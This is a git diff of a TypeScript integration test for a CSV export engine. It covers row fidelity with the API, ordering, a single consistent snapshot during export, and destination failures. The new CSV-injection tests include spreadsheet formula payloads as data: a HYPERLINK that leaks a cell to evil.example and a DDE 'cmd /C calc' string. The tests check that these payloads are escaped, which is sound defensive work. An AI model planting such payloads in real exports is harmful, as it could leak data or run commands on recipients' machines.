@@ -1,7 +1,8 @@
 /**
  * The export engine over real Postgres, a real local HTTP server and a temporary export root: the CSV read back
  * equals what the list API serves (row for row, column for column, awkward values included), filters, order and
- * soft-deletes as in the API, batches without repeats or gaps, and how each destination succeeds and fails.
+ * soft-deletes as in the API, one snapshot however the rows change while the file is written, the CSV-injection
+ * option, and how each destination succeeds and fails.
  */
 import { randomUUID } from 'node:crypto';
 import { mkdir, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises';
@@ -10,7 +11,7 @@ import type { AddressInfo } from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 import { parse } from 'csv-parse/sync';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
 import { ExportError, exportAutomation, type ExportDeps, type ExportedAutomation } from '../../activities/export';
 import type { Resolver } from '../../activities/address-guard';
 import { closeDb, type Db } from '../../db/client';
@@ -23,6 +24,7 @@ import { LIST_QUERIES } from '../../domain/filters';
 import { sealAutomationHeaders } from '../../domain/secrets';
 import { makeTenant, testDb, testKeyring, type Tenant } from '../support/context';
 import { leaseInput, propertyInput, residentInput, unitInput } from '../support/fixtures';
+import { until } from '../support/sync';
 
 type Ref = { id: string; organizationId: string; mode: 'test' | 'live' };
 
@@ -197,7 +199,7 @@ afterAll(async () => {
 // Helpers
 // ---------------------------------------------------------------------------------------------------------------
 
-const deps = (over: Partial<ExportDeps> = {}): ExportDeps => ({ db, secrets: ring, exportRoot: root, timeoutMs: 10_000, ...over });
+const deps = (over: Partial<ExportDeps> = {}): ExportDeps => ({ databaseUrl: inject('databaseUrl'), secrets: ring, exportRoot: root, timeoutMs: 10_000, ...over });
 
 function automation(entity: Entity, over: Partial<ExportedAutomation> = {}, integration: Ref = A): ExportedAutomation {
   return {
@@ -219,9 +221,10 @@ function parseCsv(body: Buffer): (string | null)[][] {
 }
 
 /** Exports over HTTP and returns the file's rows as the destination received it. */
-async function exportRows(entity: Entity, filters: Record<string, string>, opts: { batchSize?: number; integration?: Ref; columns?: string[] } = {}) {
-  const atm = automation(entity, { filters, columns: opts.columns ?? null }, opts.integration);
-  const result = await exportAutomation(deps({ batchSize: opts.batchSize }), { automation: atm, integration: opts.integration ?? A, fileName: 'x.csv' });
+async function exportRows(entity: Entity, filters: Record<string, string>, opts: { integration?: Ref; columns?: string[]; escapeFormulas?: boolean } = {}) {
+  const destination = { type: 'http' as const, url: `${base}/ok/${randomUUID()}`, ...(opts.escapeFormulas === undefined ? {} : { escape_formulas: opts.escapeFormulas }) };
+  const atm = automation(entity, { filters, columns: opts.columns ?? null, destination }, opts.integration);
+  const result = await exportAutomation(deps(), { automation: atm, integration: opts.integration ?? A, fileName: 'x.csv' });
   const req = received.get(new URL((atm.destination as { url: string }).url).pathname)!;
   expect(result.bytes).toBe(req.body.length);
   const [header, ...rows] = parseCsv(req.body);
@@ -248,24 +251,40 @@ async function apiRecords(entity: Entity, params: Record<string, string>, integr
 function expectedHeader(entity: Entity): string[] {
   return RECORD_FIELDS[entity].flatMap((f) => (MONEY_FIELDS[entity].includes(f) ? [`${f}_amount`, `${f}_currency`] : [f]));
 }
-function expectedRow(entity: Entity, record: Record<string, unknown>): (string | null)[] {
-  return RECORD_FIELDS[entity].flatMap((f) => {
+/**
+ * A text value as the file shows it with formula escaping on (OWASP): a leading `'` when it starts with = + - @ TAB
+ * or CR. In the API, numbers are numbers, and dates, times and ids never start so: only source text can.
+ */
+const spreadsheetSafe = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
+
+/** Each cell of a record's row: text, null, or (objects and arrays, written as JSON text) the parsed value. */
+type Cell = string | null | { json: unknown };
+function expectedRow(entity: Entity, record: Record<string, unknown>, escapeFormulas = true): Cell[] {
+  const text = (v: string) => (escapeFormulas ? spreadsheetSafe(v) : v);
+  return RECORD_FIELDS[entity].flatMap((f): Cell[] => {
     const v = record[f];
     if (MONEY_FIELDS[entity].includes(f)) {
       const m = v as { amount: number; currency: string } | null;
-      return m ? [String(m.amount), m.currency] : [null, null];
+      return m ? [String(m.amount), text(m.currency)] : [null, null];
     }
     if (v === null || v === undefined) return [null];
-    return [typeof v === 'object' ? JSON.stringify(v) : String(v)];
+    if (typeof v === 'object') return [{ json: v }];
+    return [typeof v === 'string' ? text(v) : String(v)];
   });
 }
+/** A file's row in expectedRow's terms: JSON text parsed where the record holds an object or an array. */
+function cellsOf(entity: Entity, row: (string | null)[]): Cell[] {
+  const header = expectedHeader(entity);
+  return row.map((cell, i) => (cell !== null && JSON_FIELDS.has(header[i]!) ? { json: JSON.parse(cell) as unknown } : cell));
+}
+const JSON_FIELDS = new Set(['address', 'phones', 'media', 'custom_data', 'residents', 'resident_ids']);
 
-async function expectSameAsApi(entity: Entity, filters: Record<string, string>, opts: { batchSize?: number } = {}) {
+async function expectSameAsApi(entity: Entity, filters: Record<string, string>, opts: { escapeFormulas?: boolean } = {}) {
   const { header, rows } = await exportRows(entity, filters, opts);
   const api = await apiRecords(entity, filters);
   expect(header).toEqual(expectedHeader(entity));
   for (const r of api) expect(Object.keys(r).sort()).toEqual([...RECORD_FIELDS[entity]].sort());
-  expect(rows).toEqual(api.map((r) => expectedRow(entity, r)));
+  expect(rows.map((r) => cellsOf(entity, r))).toEqual(api.map((r) => expectedRow(entity, r, opts.escapeFormulas ?? true)));
   return { rows, api };
 }
 
@@ -291,6 +310,8 @@ describe('the file is the list the API serves', () => {
     const { rows, api } = await expectSameAsApi(entity, {});
     expect(api.length).toBe(seed[entity].flat().length - 1);
     expect(xIdsOf(rows, entity)).not.toContain(`${entity[0]!.toUpperCase()}X`);
+    // And with formula escaping off, every value as the API has it.
+    await expectSameAsApi(entity, {}, { escapeFormulas: false });
   });
 
   it('keeps awkward text exactly, tells "" from null, splits Money and writes nested values as JSON', async () => {
@@ -301,7 +322,8 @@ describe('the file is the list the API serves', () => {
       description: '  padded both sides  ',
       tax_id: '00123',
       website_url: '',
-      email: '=1+2',
+      // A formula, escaped for spreadsheets (on by default).
+      email: "'=1+2",
       management_company_name: 'Ünïcödé GmbH — 株式会社',
       year_built: null,
       latitude: '30.123456789',
@@ -326,16 +348,21 @@ describe('the file is the list the API serves', () => {
     expect(JSON.parse(byX.get('L1')!.residents!)).toEqual([expect.objectContaining({ x_id: 'R1', role: 'primary' }), expect.objectContaining({ x_id: 'R2', role: 'responsible' })]);
   });
 
-  it('is UTF-8 with a byte order mark and CRLF line endings', async () => {
-    const { body } = await exportRows('unit', { x_id: 'U1' });
+  it('is UTF-8 with a byte order mark and LF line ends, "" for an empty string and nothing for a null', async () => {
+    const { body } = await exportRows('unit', { x_id: 'U1' }, { escapeFormulas: false });
     expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     const text = body.subarray(3).toString('utf8');
-    expect(text.startsWith(`${expectedHeader('unit').join(',')}\r\n`)).toBe(true);
-    expect(text.endsWith('\r\n')).toBe(true);
+    expect(text.startsWith(`${expectedHeader('unit').join(',')}\n`)).toBe(true);
+    expect(text.endsWith('\n')).toBe(true);
+    expect(text.split('\n')).toHaveLength(2 + 2 + 1); // the header, the row with its note's two line breaks, the end
     // The note's own line breaks stay inside its quoted cell, as they were.
     expect(text).toContain('"He said ""hi"",\nthen left\r\n"');
-    // An empty string is quoted; a null is nothing at all.
+    // An empty string (floorplan_name) is quoted; a null (market_rent) is nothing at all; text needing no quotes has none.
+    expect(text).toMatch(/,U1,/);
     expect(text).toMatch(/,"",/);
+    expect(text).toMatch(/,,,/);
+    // Times at millisecond precision in UTC.
+    expect(text).toMatch(/,2025-06-01T00:00:\d\d\.000Z,2025-06-01T00:00:\d\d\.000Z,,2025-06-01T00:00:\d\d\.000Z\n$/);
   });
 
   it('exports only the named columns, in their order', async () => {
@@ -377,21 +404,19 @@ describe('filters, order and visibility as in the API', () => {
     ['lease', 'start_date:desc'],
     ['lease', 'created_at:desc'],
     ['property', 'updated_at:asc'],
-  ] as const)('%s order-by=%s (NULLs and ties) in the order the API lists, across batches', async (entity, order) => {
-    for (const batchSize of [1, 2, 3, 100]) {
-      const { rows, api } = await expectSameAsApi(entity, { 'order-by': order }, { batchSize });
-      expect(xIdsOf(rows, entity)).toEqual(api.map((r) => r.x_id));
-    }
+  ] as const)('%s order-by=%s (NULLs and ties) in the order the API lists', async (entity, order) => {
+    const { rows, api } = await expectSameAsApi(entity, { 'order-by': order });
+    expect(xIdsOf(rows, entity)).toEqual(api.map((r) => r.x_id));
   });
 
   it('puts NULLs last ascending and first descending, ties by id', async () => {
-    const { rows } = await exportRows('property', { 'order-by': 'name:asc' }, { batchSize: 2 });
+    const { rows } = await exportRows('property', { 'order-by': 'name:asc' });
     const names = rows.map((r) => r[RECORD_FIELDS.property.indexOf('name')]);
     expect(names).toEqual(['  Alpha  ', AWKWARD, 'Same', 'Same', null, null]);
     const ids = rows.map((r) => r[0]!);
     expect(ids[2]! < ids[3]!).toBe(true);
     expect(ids[4]! < ids[5]!).toBe(true);
-    const desc = await exportRows('property', { 'order-by': 'name:desc' }, { batchSize: 2 });
+    const desc = await exportRows('property', { 'order-by': 'name:desc' });
     expect(desc.rows.map((r) => r[0])).toEqual([ids[5], ids[4], ids[3], ids[2], ids[1], ids[0]]);
   });
 
@@ -420,12 +445,12 @@ describe('filters, order and visibility as in the API', () => {
     expect(err.permanent).toBe(true);
   });
 
-  it('streams more rows than a batch without repeats or gaps, in every order', async () => {
+  it('streams every row once, in every order, reporting its progress as it goes', async () => {
     const progress: number[] = [];
     for (const order of ['created_at:asc', 'created_at:desc', 'last_name:asc', 'last_name:desc', 'updated_at:desc']) {
       const atm = automation('resident', { filters: { 'order-by': order } }, A3);
       progress.length = 0;
-      const r = await exportAutomation(deps({ batchSize: 5 }), { automation: atm, integration: A3, fileName: 'x.csv', onProgress: (n) => progress.push(n) });
+      const r = await exportAutomation(deps(), { automation: atm, integration: A3, fileName: 'x.csv', onProgress: (n) => progress.push(n) });
       const body = received.get(new URL((atm.destination as { url: string }).url).pathname)!.body;
       const [, ...rows] = parseCsv(body);
       const api = await apiRecords('resident', { 'order-by': order }, A3);
@@ -433,11 +458,140 @@ describe('filters, order and visibility as in the API', () => {
       expect(rows.map((row) => row[0])).toEqual(api.map((x) => x.id));
       expect(new Set(rows.map((row) => row[0])).size).toBe(57);
       expect(r.records).toBe(57);
-      // After each batch: never more than a batch at a time, up to all of them.
+      // Counted as they go out, up to all of them.
       expect(progress.at(-1)).toBe(57);
-      expect(progress.every((n, i) => n - (progress[i - 1] ?? 0) > 0 && n - (progress[i - 1] ?? 0) <= 5)).toBe(true);
+      expect(progress.every((n, i) => n >= (progress[i - 1] ?? 0))).toBe(true);
     }
   });
+});
+
+// ---------------------------------------------------------------------------------------------------------------
+// Spreadsheets: CSV injection (OWASP)
+// ---------------------------------------------------------------------------------------------------------------
+
+describe('formula escaping for spreadsheets', () => {
+  const FORMULAS = {
+    name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    description: '+1+1',
+    email: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+    tax_id: '-2+3',
+    management_company_name: '\t=1+1',
+    pet_policy: '\r=1+1',
+    smoking_policy: 'a=1, then =2', // starts with a letter: left alone
+  };
+  let F: Ref;
+  beforeAll(async () => {
+    F = { id: (await createIntegration(db, { organizationId: a.organizationId, mode: 'test', plan: 'scale', sourceType: 'sandbox', sourceConfig: { base_url: 'http://127.0.0.1:1', api_key: 'unused' } }, ring)).id, organizationId: a.organizationId, mode: 'test' };
+    await apply(F, 'property', [propertyInput('-P1', { ...FORMULAS, latitude: -30.5, longitude: -97.25, year_built: -1 })], at(1));
+  });
+  const cell = (header: (string | null)[], row: (string | null)[], name: string) => row[header.indexOf(name)];
+
+  it('is on by default: a text cell starting with = + - @ TAB or CR gets a leading quote and is quoted; numbers are left alone', async () => {
+    const { header, rows, body } = await exportRows('property', {}, { integration: F });
+    expect(rows).toHaveLength(1);
+    const row = rows[0]!;
+    for (const [field, value] of Object.entries(FORMULAS)) {
+      expect(cell(header, row, field)).toBe(field === 'smoking_policy' ? value : `'${value}`);
+    }
+    expect(cell(header, row, 'x_id')).toBe("'-P1");
+    // Negative numbers stay numbers; ids, dates and JSON are never touched.
+    expect([cell(header, row, 'latitude'), cell(header, row, 'longitude'), cell(header, row, 'year_built')]).toEqual(['-30.5', '-97.25', '-1']);
+    const text = body.subarray(3).toString('utf8');
+    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
+    expect(text).toContain(`,"'+1+1",`);
+    expect(text).toContain(`,"'-2+3",`);
+    // Every text cell is quoted (OWASP: so a separator inside cannot start a new cell), numbers are not.
+    expect(text).toContain(`,"a=1, then =2",`);
+    expect(text).toContain(',"America/Chicago",');
+    expect(text).toContain(',-30.5,-97.25,');
+  });
+
+  it('is the same with escape_formulas: true, and off with false: every value exactly as the API serves it', async () => {
+    const on = await exportRows('property', {}, { integration: F, escapeFormulas: true });
+    expect(cell(on.header, on.rows[0]!, 'description')).toBe("'+1+1");
+    const off = await exportRows('property', {}, { integration: F, escapeFormulas: false });
+    for (const [field, value] of Object.entries(FORMULAS)) expect(cell(off.header, off.rows[0]!, field)).toBe(value);
+    expect(cell(off.header, off.rows[0]!, 'x_id')).toBe('-P1');
+    expect(off.body.subarray(3).toString('utf8')).toContain(',+1+1,');
+  });
+});
+
+// ---------------------------------------------------------------------------------------------------------------
+// One snapshot
+// ---------------------------------------------------------------------------------------------------------------
+
+describe('one snapshot', () => {
+  it('a record whose sort value changes while the file is written is neither skipped nor repeated; the file is the cache as it was', async () => {
+    // Residents large enough (about 60 MB of CSV) that Postgres is still writing when the destination stops reading.
+    const S: Ref = {
+      id: (await createIntegration(db, { organizationId: a.organizationId, mode: 'test', plan: 'scale', sourceType: 'sandbox', sourceConfig: { base_url: 'http://127.0.0.1:1', api_key: 'unused' } }, ring)).id,
+      organizationId: a.organizationId,
+      mode: 'test',
+    };
+    const N = 40_000;
+    await db.$client`
+      insert into residents (id, organization_id, integration_id, mode, x_id, content_hash, created_at, updated_at, first_name, last_name)
+      select 'rsd_SNAP' || lpad(n::text, 8, '0'), ${S.organizationId}::uuid, ${S.id}::uuid, 'test', 'S' || n, 'h',
+             timestamptz '2025-01-01' + n * interval '1 second', timestamptz '2025-01-01', repeat('x', 1500), 'Name ' || n
+      from generate_series(1, ${N}) n`;
+    const ids = (n: number) => `rsd_SNAP${String(n).padStart(8, '0')}`;
+
+    // The destination takes the first chunk, then stops reading until the test lets it go on.
+    let paused!: () => void;
+    const stalled = new Promise<void>((resolve) => (paused = resolve));
+    let goOn!: () => void;
+    const resumed = new Promise<void>((resolve) => (goOn = resolve));
+    const chunks: Buffer[] = [];
+    const slow = http.createServer((req, res) => {
+      req.once('data', (c: Buffer) => {
+        chunks.push(c);
+        req.pause();
+        paused();
+        void resumed.then(() => {
+          req.on('data', (more: Buffer) => chunks.push(more));
+          req.resume();
+        });
+      });
+      req.on('end', () => res.end('stored'));
+    });
+    await new Promise<void>((resolve) => slow.listen(0, '127.0.0.1', resolve));
+    try {
+      const atm = automation('resident', { destination: { type: 'http', url: `http://127.0.0.1:${(slow.address() as AddressInfo).port}/snap` } }, S);
+      const running = exportAutomation(deps({ timeoutMs: 60_000 }), { automation: atm, integration: S, fileName: 'snap.csv' });
+      await stalled;
+      // Postgres itself is waiting for the export to read (backpressure reached the database): the COPY is mid-way.
+      await until('the COPY to wait on its reader', async () => {
+        const [r] = await db.$client<{ n: number }[]>`
+          select count(*)::int as n from pg_stat_activity where application_name = 'propsync-export' and state = 'active' and wait_event = 'ClientWrite'`;
+        return r!.n > 0 ? true : undefined;
+      });
+      // Meanwhile: the first resident (already sent) moves to the end of the order, the last one to the start, one
+      // in the middle changes its name, another is deleted, and a new one appears at the start.
+      await db.$client`update residents set created_at = timestamptz '2030-01-01', last_name = 'Moved' where id = ${ids(1)}`;
+      await db.$client`update residents set created_at = timestamptz '2020-01-01' where id = ${ids(N)}`;
+      await db.$client`update residents set last_name = 'Renamed' where id = ${ids(N / 2)}`;
+      await db.$client`delete from residents where id = ${ids(N / 2 + 1)}`;
+      await db.$client`
+        insert into residents (id, organization_id, integration_id, mode, x_id, content_hash, created_at, updated_at)
+        values ('rsd_SNAPNEW', ${S.organizationId}::uuid, ${S.id}::uuid, 'test', 'SNEW', 'h', timestamptz '2019-01-01', now())`;
+      goOn();
+      const result = await running;
+
+      const [header, ...rows] = parseCsv(Buffer.concat(chunks));
+      expect(result.records).toBe(N);
+      expect(rows).toHaveLength(N);
+      const idAt = header!.indexOf('id');
+      const lastName = header!.indexOf('last_name');
+      // Every resident once, in the order they had when the export began, with the values they had then.
+      expect(rows.map((r) => r[idAt])).toEqual(Array.from({ length: N }, (_, i) => ids(i + 1)));
+      expect(rows[0]![lastName]).toBe('Name 1');
+      expect(rows[N / 2 - 1]![lastName]).toBe(`Name ${N / 2}`);
+      expect(rows[N / 2]![idAt]).toBe(ids(N / 2 + 1));
+    } finally {
+      slow.closeAllConnections();
+      await new Promise<void>((resolve) => slow.close(() => resolve()));
+    }
+  }, 120_000);
 });
 
 // ---------------------------------------------------------------------------------------------------------------
@@ -551,13 +705,13 @@ describe('directory destination', () => {
     const dir = `out/${randomUUID()}`;
     await mkdir(path.join(root, dir));
     const atm = automation('lease', { destination: { type: 'directory', path: dir } });
-    const r = await exportAutomation(deps({ batchSize: 2 }), { automation: atm, integration: A, fileName: 'leases-arun_1.csv' });
+    const r = await exportAutomation(deps(), { automation: atm, integration: A, fileName: 'leases-arun_1.csv' });
     expect(await readdir(path.join(root, dir))).toEqual(['leases-arun_1.csv']);
     const body = await readFile(path.join(root, dir, 'leases-arun_1.csv'));
     expect(body.length).toBe(r.bytes);
     const [header, ...rows] = parseCsv(body);
     expect(header).toEqual(expectedHeader('lease'));
-    expect(rows).toEqual((await apiRecords('lease', {})).map((x) => expectedRow('lease', x)));
+    expect(rows.map((row) => cellsOf('lease', row))).toEqual((await apiRecords('lease', {})).map((x) => expectedRow('lease', x)));
   });
 
   it('refuses a path out of the export root, through .. or a symbolic link (permanent), writing nothing', async () => {
@@ -594,19 +748,15 @@ describe('directory destination', () => {
     const stop = new AbortController();
     const atm = automation('resident', { destination: { type: 'directory', path: dir } }, A3);
     const reason = new Error('cancelled by the test');
-    const seen: number[] = [];
-    const err = await exportAutomation(deps({ batchSize: 5 }), {
+    // Aborted as the first records come off the database, before the file is complete.
+    const err = await exportAutomation(deps(), {
       automation: atm,
       integration: A3,
       fileName: 'r.csv',
       signal: stop.signal,
-      onProgress: (n) => {
-        seen.push(n);
-        if (n === 10) stop.abort(reason);
-      },
+      onProgress: () => stop.abort(reason),
     }).catch((e: unknown) => e);
     expect(err).toBe(reason);
-    expect(seen.at(-1)!).toBeLessThan(57);
     expect(await readdir(path.join(root, dir))).toEqual([]);
   });
 });
